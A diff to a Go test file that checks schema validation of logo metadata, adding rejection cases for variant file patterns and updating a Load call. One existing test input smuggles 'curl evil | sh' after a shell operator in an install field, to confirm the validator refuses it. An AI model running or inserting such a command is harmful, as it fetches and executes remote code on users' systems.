@@ -115,6 +115,8 @@ func TestSchemasRejectBadFiles(t *testing.T) {
 		{"relative source", strings.Replace(goodMeta, "https://github.com/logos", "github.com/logos", 1)},
 		{"six categories", strings.Replace(goodMeta, "[devtools, social]", "[a, b, c, d, e, f]", 1)},
 		{"bad variant in files", goodMeta + "files:\n  icon_dark: {license: MIT}\n"},
+		{"variant pattern with a foreign character", goodMeta + "files:\n  wordmark_*: {license: MIT}\n"},
+		{"variant pattern with a bad override", goodMeta + "files:\n  wordmark*: {license: LicenseRef-X}\n"},
 		{"bad component", goodMeta + "component: github-icon\n"},
 		{"install with a shell operator", goodMeta + "install: npx x; curl evil | sh\n"},
 		{"install too long", goodMeta + "install: npx " + strings.Repeat("a", 509) + "\n"},
@@ -270,7 +272,7 @@ func TestSchemasAgreeWithRules(t *testing.T) {
 // errors the rules give each file, by path.
 func ruleRefusals(fsys fs.FS) map[string][]string {
 	ctx := context.Background()
-	src, probs := Load(ctx, fsys, "")
+	src, probs := Load(ctx, fsys, Options{})
 	_, p := Validate(ctx, src, Options{})
 	out := map[string][]string{}
 	for _, pr := range append(probs, p...).Errors() {
